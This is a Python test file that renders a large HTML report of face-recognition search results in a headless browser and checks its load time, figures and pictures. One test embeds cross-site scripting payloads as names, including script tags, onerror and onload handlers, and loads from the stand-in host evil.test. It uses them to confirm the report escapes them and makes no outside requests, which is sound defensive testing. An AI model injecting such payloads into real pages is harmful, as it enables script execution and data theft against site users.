"""The HTML report of 10,000 requests in a real browser: its figures, its pictures, and what it must not do."""

import time
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from capture.reporting.page import MOST_PICTURE_BYTES, html_page
from capture.reporting.report import Report
from capture.reporting.thumbnails import Album, Thumbnails
from capture.rows import Row
from contract.pictures.digest import picture_digest
from tests.support.chromium import Page, browsing, chromium
from tests.support.rows import MOST_PAGE_BYTES, face_picture, row, search, week

OPENS_S = 2.0
pytestmark = pytest.mark.timeout(400)

FIGURES = """
({
  counts: Object.fromEntries([...document.querySelectorAll(".tile")].map((t) => [t.id, t.children[0].textContent])),
  cards: document.querySelectorAll("article.row").length,
  shown: [...document.querySelectorAll("article.row")].filter((c) => c.getClientRects().length).length,
  drawn: [...document.querySelectorAll(".pictures img")].filter((i) => i.complete && i.naturalWidth > 1).length,
  images: document.querySelectorAll(".pictures img").length,
  plots: [...document.querySelectorAll(".plot svg")].map((s) => s.querySelector("title").textContent),
  names: [...document.querySelectorAll(".figures th[scope=row]")].map((c) => c.textContent.trim()),
})
"""
DECODED = "Promise.all([...document.images].map((i) => i.decode().then(() => 1, () => 0))).then((all) => all.length)"
INTRUDER = """
new Promise((done) => {
  const script = document.createElement("script");
  script.textContent = "document.title = 'pwned'";
  document.body.append(script);
  const image = new Image();
  image.onload = () => done("a picture was loaded");
  image.onerror = () => done(document.title);
  image.src = "http://127.0.0.1:PORT/leak";
})
"""
REQUESTS = "performance.getEntriesByType('resource').filter((one) => !one.name.startsWith('data:')).length"
HOSTILE = [
    "<script>document.title='pwned'</script>",
    '"><img src=x onerror="document.title=\'pwned\'">',
    "'-document.write(1)-'</style><script src=//evil.test/x.js></script>",
    "</title><svg onload=document.title='pwned'>",
    "<link rel=stylesheet href=http://evil.test/x.css><meta http-equiv=refresh content='0;url=http://evil.test/'>",
]


async def opening(tab: Page, url: str) -> float:
    """How many seconds a fresh page takes until everything in it is there."""
    await tab.open("about:blank")
    began = time.monotonic()
    await tab.open(url)
    return time.monotonic() - began


def report_of(rows: Iterator[Row], pictures: dict[str, bytes], title: str) -> str:
    photos = {(f"p{i}", 0): [(1, sha256)] for i, sha256 in enumerate(pictures)}
    report = Report()
    for one in rows:
        report.add(one)
    album = Album(lambda sha256: pictures.get(sha256, b"no picture"), photos)
    thumbnails = Thumbnails(album, album, MOST_PICTURE_BYTES)
    return "".join(html_page(title, report.findings(), report.shown(), report.troubles(), thumbnails))


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report of 10,000 requests of which more than 500 differ, with pictures of the size of a gate's."""
    faces = [face_picture(seed) for seed in range(120)]
    pictures = {picture_digest(data): data for data, _ in faces}
    named = [(sha256, box) for sha256, (_, box) in zip(pictures, faces, strict=True)]
    file = tmp_path_factory.mktemp("report") / "report.html"
    file.write_text(report_of(week(10_000, named, moved=0.08), pictures, "monday"))
    assert file.stat().st_size < MOST_PAGE_BYTES
    return file


async def test_the_report_of_10000_requests_opens_in_under_two_seconds_with_figures_and_pictures(
    page: Path, tmp_path: Path
) -> None:
    chromium()
    async with browsing(tmp_path, []) as tab:
        # Of three times the best counts, because other tests use the same cores.
        opened_s = min([await opening(tab, page.as_uri()) for _ in range(3)])
        assert await tab.evaluate(DECODED) > 900
        found: dict[str, Any] = await tab.evaluate(FIGURES)
    assert opened_s < OPENS_S
    assert found["cards"] == 500
    assert found["shown"] == 500
    assert found["images"] == found["drawn"] > 900
    total = sum(int(count.replace(",", "")) for count in found["counts"].values())
    assert total == 10_000
    assert int(found["counts"]["count-different"]) > 500
    assert found["plots"] == [
        "Scores of all searches",
        "Scores where the truth is known",
        "Trade-off of errors (DET)",
        "Errors by threshold",
        "Latency",
    ]
    assert {"EER", "FMR100", "FMR1000", "FNIR at FPIR 0.003", "FNIR", "FPIR", "stranger_to_matched"} <= set(
        found["names"]
    )


async def test_a_kind_is_chosen_without_a_script(page: Path, tmp_path: Path) -> None:
    chromium()
    async with browsing(tmp_path, []) as tab:
        await tab.open(page.as_uri())
        assert await tab.evaluate("document.scripts.length") == 0
        await tab.evaluate("document.querySelector('label[for=show-another_person]').click()")
        found = await tab.evaluate(FIGURES)
        kinds = await tab.evaluate("document.querySelectorAll('article.another_person').length")
    assert 0 < found["shown"] == kinds < found["cards"]


@asynccontextmanager
async def listening(asked: list[str]) -> AsyncIterator[int]:
    """The port of a server that notes every request."""

    async def note(request: web.Request) -> web.Response:
        asked.append(str(request.url))
        return web.Response(text="document.title = 'pwned'")

    app = web.Application()
    app.router.add_route("*", "/{any:.*}", note)
    runner = web.AppRunner(app)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        yield runner.addresses[0][1]
    finally:
        await runner.cleanup()


async def test_no_script_in_a_name_runs_and_no_request_leaves_the_page(tmp_path: Path) -> None:
    chromium()
    asked: list[str] = []
    async with listening(asked) as port, browsing(tmp_path, [f"MAP evil.test:80 127.0.0.1:{port}"]) as tab:
        names = [name.replace("evil.test", f"127.0.0.1:{port}") for name in HOSTILE] + HOSTILE
        rows = [
            row(search((name, 0.6)), search((name + "2", 0.7)), number=n, device=name, expected=name)
            for n, name in enumerate(names, start=1)
        ]
        rows.append(row(search(("a", 0.6)), None, number=99, trouble=HOSTILE[0]))
        file = tmp_path / "report.html"
        file.write_text(report_of(iter(rows), {}, HOSTILE[0]))
        await tab.open(file.as_uri())
        title = await tab.evaluate("new Promise((done) => setTimeout(() => done(document.title), 500))")
        assert title == f"{HOSTILE[0]}: replay"
        assert await tab.evaluate("document.scripts.length") == 0
        assert await tab.evaluate("document.querySelectorAll('article bdi').length") > len(names)
        assert await tab.evaluate(REQUESTS) == 0
        # A script that somehow came into the page could neither run nor load anything.
        found = await tab.evaluate(INTRUDER.replace("PORT", str(port)))
        assert found == f"{HOSTILE[0]}: replay"
    assert asked == []
